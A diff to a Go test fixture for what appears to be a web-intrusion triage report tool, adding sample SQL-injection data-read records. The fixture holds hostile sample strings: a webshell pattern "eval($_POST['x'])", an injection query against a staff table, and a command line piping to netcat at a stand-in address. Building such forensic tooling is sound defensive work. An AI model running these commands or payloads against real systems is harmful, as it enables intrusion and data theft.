@@ -61,6 +61,12 @@ func sample() *report.Report {
 		Suspects: []triage.File{{Ref: "f:0a0b0c0d", Path: `/var/www/img/up.php`, Size: 31, ModTime: clock(3, 12, 45), Verdict: triage.Unknown,
 			Cites:    []triage.Cite{{Ref: "r:77aa01.2", Source: "webroot.txt", Line: 2}},
 			Findings: []triage.Finding{{Rule: "code-input", Class: triage.WebshellUse, Level: triage.Critical, Field: "content", Match: "eval($_POST['x'])", Why: "runs what the request sends as code"}}}},
+		DataRead: report.DataRead{
+			Sums: []report.Statement{{Text: "2 values read by injection, 1 of them certain."}},
+			Reads: []report.Read{{Ref: "d:0a1b2c3d", Client: "198.51.100.7", Point: "/item.php query:id", Technique: "boolean", Expression: "SELECT mail FROM staff | <b> LIMIT 2, 1",
+				Came: "text = a***@corp.example (16 characters)", Sure: "certain", Kind: "an e-mail address", First: day, Last: day, Refs: []string{"r:3f9a12.7"}}},
+			Sent: []report.Statement{{Text: "5000 bytes to 198.51.100.7 in 9 answers.", Refs: []string{"r:3f9a12.7"}}},
+		},
 		ProcessesRead: 88, Processes: []report.Process{{
 			Process: triage.Process{Ref: "r:77aa01.3", Source: "events.json", Line: 3, Time: clock(12, 40, 2), Host: "web|1", PID: 7, ParentPID: 3, Image: "/bin/sh", CommandLine: "sh -c id;<b>\x1b[31m| nc http://203.0.113.77/",
 				User: "www-data", ParentImage: "/usr/sbin/apache2", Request: "r:3f9a12.9", Script: "/img/up.php",
